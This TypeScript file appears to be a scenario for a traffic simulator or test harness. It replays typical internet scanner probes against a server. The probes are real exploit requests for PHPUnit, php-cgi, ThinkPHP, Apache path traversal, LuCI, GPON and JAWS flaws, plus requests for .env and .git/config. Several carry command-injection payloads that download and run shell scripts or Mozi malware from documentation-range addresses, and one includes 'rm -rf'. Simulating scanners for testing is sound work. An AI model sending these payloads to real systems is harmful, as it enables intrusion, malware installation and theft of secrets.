import { pick, shuffled } from '../../src/kit/seeded.ts';
import { fetchOnce, type WebRequest } from '../clients/http.ts';
import { crowd, defineScenario } from '../scenario.ts';

const agents = [
  'Custom-AsyncHttpClient',
  'libredtail-http',
  'Hello, World',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'zgrab/0.x',
];

/** What is asked of every web server on the internet, each day. Addresses of RFC 5737: nobody has them. */
const probes: readonly (WebRequest & { name: string })[] = [
  {
    name: 'PHPUnit, CVE-2017-9841',
    method: 'POST',
    target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    body: '<?php echo(md5("Hello PHPUnit"));',
  },
  {
    name: 'php-cgi, CVE-2024-4577',
    method: 'POST',
    target: '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    body: '<?php echo(md5("Hello CVE-2024-4577"));',
  },
  {
    name: 'ThinkPHP, CVE-2018-20062',
    target:
      '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
  },
  { name: 'secrets of a site', target: '/.env' },
  { name: 'source of a site', target: '/.git/config' },
  {
    name: 'Apache, CVE-2021-41773',
    method: 'POST',
    target: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
    body: 'echo Content-Type: text/plain; echo; id; uname -a',
  },
  {
    name: 'Apache, CVE-2021-42013',
    method: 'POST',
    target: '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh',
    body: 'A=|echo;(wget -qO - http://198.51.100.7/x.sh || curl -s http://198.51.100.7/x.sh) | sh -s apache.selfrep',
  },
  {
    name: 'LuCI, CVE-2023-1389',
    target:
      '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http%3A%2F%2F192.0.2.66%2Ft.sh%20-O-%20%7C%20sh)',
  },
  {
    name: 'Boa log-in',
    method: 'POST',
    target: '/boaform/admin/formLogin',
    headers: [['Content-Type', 'application/x-www-form-urlencoded']],
    body: 'username=admin&psd=admin',
  },
  {
    name: 'GPON, CVE-2018-10561',
    method: 'POST',
    target: '/GponForm/diag_Form?images/',
    body: 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.66/gpon80+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0',
  },
  {
    name: 'JAWS recorder',
    target: '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws',
  },
  { name: 'Docker', target: '/containers/json' },
  { name: 'Solr', target: '/solr/admin/info/system?wt=json' },
];

/** Web scanners: one exploit after the other, to see which one bites. */
export const webScanner = defineScenario({
  name: 'web-scanner',
  summary: 'web scanners: the exploit paths that are tried on every server',
  needs: ['http'],
  count: 4,
  async run(ground) {
    await crowd(ground, ground.count, 'web scanner', async (source) => {
      const agent = pick(source.draw, agents);
      const bitten: string[] = [];
      for (const { name, ...probe } of shuffled(source.draw, probes)) {
        const headers = [['User-Agent', agent], ['Accept', '*/*'], ...(probe.headers ?? [])] as const;
        const answer = await fetchOnce(source, { ...probe, headers }, hostHeader, patienceMs);
        if (answer?.status === 200) bitten.push(name);
      }
      ground.say(
        `${source.address} (${agent}) tried ${probes.length} exploits; ${bitten.length} seemed to work`,
      );
    });
  },
});

/** Who tries thousands of servers does not wait for one that is busy with what it was made to run. */
const patienceMs = 1_000;
/** Scanners often know nothing but the address. */
const hostHeader = '127.0.0.1';
